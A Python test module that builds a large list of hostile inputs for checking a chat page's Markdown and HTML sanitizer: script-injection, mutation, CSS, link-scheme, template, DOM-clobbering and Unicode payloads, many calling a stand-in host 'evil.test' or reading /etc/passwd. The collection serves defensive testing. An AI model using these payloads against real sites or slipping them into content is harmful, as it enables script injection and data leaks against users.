r"""What people have tried in order to get a script, a request or a style past a page that shows their text.

Each payload says which it is: what it runs is `alert(n)`, and whatever it calls has `evil-n` in its address, where `n`
is its place in `PAYLOADS`. After the collections of PortSwigger, OWASP, Cure53 (DOMPurify) and html5sec, and after what
this page is made of: markdown-it, nh3, pygments, math-core, Vue, Quasar, and state that arrives in a script.
"""

from __future__ import annotations

from pathlib import Path

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import('https://evil.test/x.js')</script>",
    "<img src=x-evil onerror=alert(1)>",
    "<img src=https://evil.test/x.png srcset='https://evil.test/y.png 2x'>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x-evil'/onerror=alert(1)//",
    "<IMG SRC=x-evil ONERROR=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<image src=x-evil onerror=alert(1)>",
    "<body onload=alert(1)><body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1) behavior=alternate>x</marquee>",
    "<video autoplay onloadstart=alert(1) poster=https://evil.test/p><source src=//evil.test/v onerror=alert(1)>",
    "<audio src=https://evil.test/a.mp3 autoplay onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=https://evil.test/x.swf>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\"><meta name=referrer content=unsafe-url>",
    "<base href=https://evil.test/><link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/p><link rel=preconnect href=https://evil.test>",
    "<form action=https://evil.test><input name=a><button>go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button><isindex type=image src=x-evil>",
    "<button popovertarget=x>x</button><div popover id=x>over</div><dialog open>over</dialog>",
    "<div contenteditable tabindex=1 accesskey=x onclick=alert(1)>x</div>",
    "<a href=https://evil.test ping=https://evil.test/ping download target=_self>x</a>",
    "<table background=https://evil.test/b.png><tr><td background=https://evil.test/c.png>x</table>",
    "<template shadowrootmode=open><script>alert(1)</script><slot></slot></template>",
    "<noembed><img title='</noembed><img src=x-evil onerror=alert(1)>'></noembed>",
    "<portal src=https://evil.test></portal><fencedframe src=https://evil.test></fencedframe>",
    "<x onanimationstart=alert(1) style='animation:breathe 1s'>x</x><x/onpointerover=alert(1)>x",
    "<div is=q-btn href=javascript:alert(1)>x</div><q-btn href=javascript:alert(1) autofocus>x</q-btn>",
    "<plaintext><b>",
    "</textarea></div></article></main><h1>out</h1>",
    "<!--><img src=x-evil onerror=alert(1)>--><!--<b>-->",
]
SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD14PjwvZz4=#x' /><use href=https://evil.test/x.svg#a /></svg>",
    "<svg><image href=https://evil.test/x.png /><feImage href=https://evil.test/y.png /></svg>",
    "<svg><foreignObject><iframe src=https://evil.test></iframe></foreignObject></svg>",
    "<svg><style>*{display:none}</style></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)><handler>alert(1)</handler></svg>",
    "<math href=javascript:alert(1)>x</math><math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype='statusline#https://evil.test' xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x-evil onerror=alert(1)></annotation-xml></math>",
    "<math><mtext></mtext></math></span></p><img src=x-evil onerror=alert(1)>",
    "<math><mglyph src=https://evil.test/x.png></mglyph><mtext style='position:fixed;inset:0'>x</mtext></math>",
]
MUTATION = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x-evil onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x-evil onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x-evil onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x-evil onerror=alert(1)>'>",
    "<listing>&lt;img src=x-evil onerror=alert(1)&gt;</listing>",
    "<xmp><img title='</xmp><img src=x-evil onerror=alert(1)>'></xmp>",
    "<svg><title><![CDATA[</title><img src=x-evil onerror=alert(1)>]]></svg>",
    "<a><table><td></a><svg><desc><table><a title='</desc><img src=x-evil onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x-evil onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x-evil onerror=alert(1)>'></style>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img title='?><img src=x-evil onerror=alert(1)>'>",
    "<div" * 600 + ">" + "<b>" * 600 + "<img src=x-evil onerror=alert(1)>",
]
CSS = [
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.test/x.css';body{background:url(https://evil.test/b.png)}</style>",
    "<style>[aria-label=Message]{background:url(https://evil.test/leak)}@font-face{fo"
    "nt-family:x;src:url(//evil.test/f)}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>over everything</div>",
    "<p style='margin-top:-9999px;transform:scale(50);font-size:9999px'>huge</p>",
    "<div style='background:url(https://evil.test/b.png);list-style:url(https://evil.test/l)'>x</div>",
    "<td style='text-align:expression(alert(1))'><td style='text-align:left;position:fixed'>x",
    '<div class="page sidebar dock composer header backdrop latest hidden q-dialog fullscreen fixed-full">x</div>',
    '<span class="q-layout q-header fixed-top z-max absolute-full bg-red" style="color:red">x</span>',
]
LINKS = [
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](  javascript:alert(1))",
    "[x](javascript&colon;alert(1)) [x](java&Tab;script:alert(1)) [x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>) [x](\\javascript:alert(1)) [x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1)) [x](\x0bjavascript:alert(1)) [x](%6Aavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1)) [x](file:///etc/passwd) [x](blob:https://evil.test/1) [x](filesystem:https://evil.test/1)",
    "[x](view-source:https://evil.test) [x](intent://evil.test#Intent;end) [x](chrome://settings) [x](about:blank)",
    '[x](https://evil.test "onmouseover=alert(1) \\"><img src=x-evil onerror=alert(1)>")',
    "[x]: javascript:alert(1)\n[y]: <data:text/html,<script>alert(1)</script>> 'x'\n\n[x] [y] [x][x] ![x]",
    "<javascript:alert(1)> <data:text/html,x> <https://evil.test/\"onclick=alert(1)> <a@evil.test'onclick=alert(1)>",
    "![x](https://evil.test/x.png) ![x](//evil.test/y.png) ![x](x-evil) ![](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1)) ![x][p] ![<img src=x-evil onerror=alert(1)>](//evil.test/a)\n\n[p]: https://evil.test/p",
    "[![x](https://evil.test/x.png)](javascript:alert(1)) [<img src=x-evil onerror=alert(1)>](https://evil.test)",
    'https://evil.test/<script>alert(1)</script> www.evil.test/"><img/src=x-evil/onerror=alert(1)> ftp://evil.test',
    "[a](//evil.test) [b](\\\\evil.test) [c](/\\evil.test) [d](https:evil.test) [e](#conversations) [f](?x#settings)",
]
MARKDOWN = [
    '```"><img src=x-evil onerror=alert(1)>\n</code></pre></figure><img src=x-evil onerror=alert(1)>\n```',
    "```html' onmouseover=alert(1) x='\n<script>alert(1)</script>\n```",
    "~~~python\nprint('</span><script>alert(1)</script>')  # <img src=x-evil onerror=alert(1)>\n~~~",
    "`<img src=x-evil onerror=alert(1)>` ``</code><script>alert(1)</script>``",
    "    </code></pre><script>alert(1)</script>",
    "| <img src=x-evil onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|-:|\n| `</td>` <script>alert(1)</script> |",
    "- [x] <input autofocus onfocus=alert(1)>\n- [ ] [x](javascript:alert(1))\n- [x] </label><form action=//evil.test>",
    "x[^1][^<b>]\n\n[^1]: <img src=x-evil onerror=alert(1)>\n[^<b>]: [x](javascript:alert(1))"
    " ![x](https://evil.test/n)",
    '[^"><img src=x-evil onerror=alert(1)>]\n\n[^"><img src=x-evil onerror=alert(1)>]: x',
    "# <img src=x-evil onerror=alert(1)>\n\nx {#conversations .page style=position:fixed}\n===",
    "1000000000. <script>alert(1)</script>\n> > > </blockquote><script>alert(1)</script>",
    "&lt;img src=x-evil onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62; &amp;lt;script&amp;gt;",
    "\\<img src=x-evil onerror=alert(1)\\> *<script*>alert(1)</script*> <scr\0ipt>alert(1)</scr\0ipt>",
    "> " * 300 + "<img src=x-evil onerror=alert(1)>",
    "- " * 300 + "<img src=x-evil onerror=alert(1)>",
    "1. - > " * 100 + "deep",
    "[" * 500 + "x" + "](javascript:alert(1))" * 500,
]
MATHS = [
    r"$\href{javascript:alert(1)}{x}$ $\url{https://evil.test}$ $\includegraphics{https://evil.test/x.png}$",
    r"$$\style{position:fixed;inset:0}{x}$$ $\class{page}{x}$ $\htmlId{conversations}{x}$ $\cssId{a}{x}$",
    r"\(\text{</mtext></math><img src=x-evil onerror=alert(1)>}\) $\text{<style>*{display:none}</style>}$",
    r"\[\color{red;position:fixed}{x} \textcolor{url(https://evil.test)}{x} \operatorname{<script>alert(1)</script>}\]",
    r"$\unicode{60}script>alert(1)$ $\char60 img src=x-evil>$ $&lt;img src=x-evil onerror=alert(1)&gt;$",
    r"$\hspace{9999em}x$ $\rule{9999em}{9999em}$ $\raisebox{-9999em}{x}$ $\kern-9999em over$",
    r"$\begin{array}{<b>}x\end{array}$ $\label{<b>}$ $\def\a{<script>alert(1)</script>}\a$ $\let\a=<$",
    "$" + r"\sqrt{" * 80 + "<img src=x-evil onerror=alert(1)>" + "}" * 80 + "$",
]
TEMPLATES = [
    "{{ alert(1) }} {{constructor.constructor('alert(1)')()}} {{ _ctx.$el.ownerDocument.defaultView.alert(1) }}",
    "{{ $emit.constructor`alert(1)`() }} {{_c.constructor('alert(1)')()}} {{ toString().constructor.fromCharCode(1) }}",
    "<div v-html=\"'<img src=x-evil onerror=alert(1)>'\" v-on:click=alert(1) @focus=alert(1) :onclick=alert(1)>x</div>",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {% alert(1) %} [[ alert(1) ]] {0.__class__} {text} %s %(x)s",
    "`${alert(1)}` `+alert(1)+` '+alert(1)+' \"+alert(1)+\" ');alert(1);(' \");alert(1);//",
    "</script><script>alert(1)</script> <!--<script> </SCRIPT ><img src=x-evil onerror=alert(1)>",
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\u2028alert(1)\u2029alert(1)\n*/alert(1)/*\n--></script><script>alert(1)//",
    'x onclick=alert(1) style=\'position:fixed\' class="page" :href="javascript:alert(1)" aria-label="Send"',
    '{"__proto__": {"innerHTML": "<img src=x-evil onerror=alert(1)>"}, "js_handler": "alert(1)", "@click": "alert(1)"}',
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; &#34; onmouseover=alert(1) &#39;);alert(1)//",
]
CLOBBERING = [
    "<a id=localchat></a><form name=localchat><input name=act></form><img name=body><img name=querySelector>",
    "<form id=document><input name=body></form><a id=window name=socket href=https://evil.test>x</a>",
    "<p id=conversations>x</p><p id=settings>x</p><p id=said role=status>x</p><p id=shortcuts>x</p><p id=app>x</p>",
    "<div role=log aria-label=Conversation><article aria-label=Assistant data-action=delete>x</article></div>",
    '<button data-action=delete data-id=x aria-label=Send>x</button><button class="copy-code">x</button>',
    "# conversations\n\n## settings\n\n[said](#said) <a name=getElementById></a>",
]
UNICODE = [
    "\u202e<tpircs/>(1)trela<tpircs>\u202c \u2066\u202eevil\u202e\u2067",
    "\u202eno end to this\u202d\u202b\u2067\u2068",
    "Z" + "\u0335\u0327\u0321\u0322\u030d\u030e\u0304" * 60 + "algo",
    "\ufeff<script>alert(1)</script>\u200b\u200d\u00ad\u061c\u180e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bascript\u02ba \u2039img src=x-evil\u203a",
    "<\u200bscript>alert(1)</\u200bscript> <img\u00a0src=x-evil> <img\x0csrc=x-evil\x0conerror=alert(1)>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x00<img src=x-evil onerror=alert(1)>\x00 \x7f\x85",
    "W" * 5_000,
]

# What the page reads besides Markdown.
BLOCKS = [
    "<details open>\n<summary><img src=x-evil onerror=alert(1)></summary>\n<script>alert(1)</script>\n</details>",
    "<details ontoggle=alert(1) open>\n<summary onclick=alert(1)>x</summary>\n</details><details"
    " name=x open><a href=javascript:alert(1)>",
    "<sub onmouseover=alert(1)>x</sub> <sub><script>alert(1)</script></sub> <kbd><img"
    " src=x-evil onerror=alert(1)></kbd>",
    "<sup>" * 200 + "<b>" * 200 + "x" + "</b>" * 200 + "</sup>" * 200,
    "<details>\n" * 120 + "deep\n" + "</details>\n" * 120,
    'https://evil.test/"onmouseover=alert(1)//'
    " https://evil.test/<img/src=x-evil/onerror=alert(1)> www.evil.test'onclick=alert(1)",
    'https://evil.test:javascript:alert(1) http://javascript:alert(1)@evil.test me@evil.test"onclick=alert(1)',
    "سلام <script>alert(1)</script> /etc/<img src=x-evil onerror=alert(1)> https://evil.test/\u202egnp.exe",
    "```markdown\n```html\n<script>alert(1)</script>\n```\n</code></pre><img src=x-evil onerror=alert(1)>\n```",
    "| `</td>|<script>alert(1)</script>` | $<img|src=x-evil onerror=alert(1)>$ |\n|---|---|\n| `a|</table><b>` | x |",
    "\\begin{align}\n</math><img src=x-evil onerror=alert(1)>\n\n\\end{align}"
    " $\\ce{<script>alert(1)</script> ->[</math><b>] x}$",
    "```svg\n<svg onload=alert(1)><script>alert(1)</script></svg>\n```\n```mermaid\ngraph"
    " TD\nA[<img src=x-evil onerror=alert(1)>]\n```",
]

# Code that a page shows as what it describes: pages in frames, diagrams.
CODE = (Path(__file__).parent / "code_payloads.txt").read_text(encoding="utf-8").split("\n=====\n")

PAYLOADS = [
    text.replace("alert(1)", f"alert({n})").replace("evil", f"evil-{n}")
    for n, text in enumerate(
        [*HTML, *SVG_AND_MATHML, *MUTATION, *CSS, *LINKS, *MARKDOWN, *MATHS, *TEMPLATES, *CLOBBERING, *UNICODE, *BLOCKS]
    )
]


def on_one_line(most: int) -> list[str]:
    """All payloads as titles and names are: no line breaks, and not too long."""
    return [" ".join(text.split())[:most] for text in PAYLOADS]


def file_names(ending: str) -> list[str]:
    """All payloads as the names of files. What a file system cannot hold in one is left out."""
    names = (text.replace("/", "").replace("\0", "") for text in on_one_line(100))
    return [name.encode()[: 250 - len(ending)].decode(errors="ignore") + ending for name in names]
